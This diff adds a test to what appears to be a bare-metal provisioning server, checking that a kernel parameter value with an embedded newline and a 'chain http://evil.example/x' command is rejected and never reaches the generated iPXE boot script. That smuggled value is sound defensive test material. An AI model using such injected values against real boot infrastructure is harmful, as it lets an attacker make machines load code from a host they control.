@@ -152,6 +152,29 @@ TEST_CASE("ipxe: boot.ipxe chains to the MAC's script, which boots the agent onl
   CHECK_THAT(api.call("GET", "/boot/52-54-00-ab-cd-ef.ipxe").body, Catch::Contains("sanboot"));
 }
 
+TEST_CASE("ipxe: kernel_append_params with a newline fails validation and never reaches a script",
+          "[server][netboot]") {
+  TempDir dir("kiln-netboot");
+  const std::string kernel = dir.file("kernel");
+  const std::string ramdisk = dir.file("initramfs");
+  std::ofstream(kernel) << "K";
+  std::ofstream(ramdisk) << "R";
+  TestApi api("[conductor]\ndeploy_kernel = " + kernel + "\ndeploy_ramdisk = " + ramdisk +
+              "\nfile_url_allowed_paths = " + dir.path.string() + "\n");
+  createNode(api, "ipxe", {{"kernel_append_params", "quiet\nchain http://evil.example/x"}});
+  const Json v = api.get("/v1/nodes/nb/validate").json();
+  CHECK(v["boot"]["result"] == false);
+  CHECK_THAT(v["boot"]["reason"].get<std::string>(), Catch::Contains("control characters"));
+  verb(api, "nb", "manage");
+  verb(api, "nb", "provide");  // automated cleaning would boot the agent: it fails instead
+  const Json n = node(api, "nb");
+  CHECK(n["provision_state"] == "clean failed");
+  CHECK_THAT(n["last_error"].get<std::string>(), Catch::Contains("control characters"));
+  api.version = "";
+  const auto script = api.call("GET", "/boot/52-54-00-ab-cd-ef.ipxe");
+  CHECK_THAT(script.body, !Catch::Contains("evil.example"));
+}
+
 TEST_CASE("ipxe: URLs are handed to iPXE as they are; missing images fail validation", "[server][netboot]") {
   TestApi api;
   createNode(api, "ipxe", Json::object());
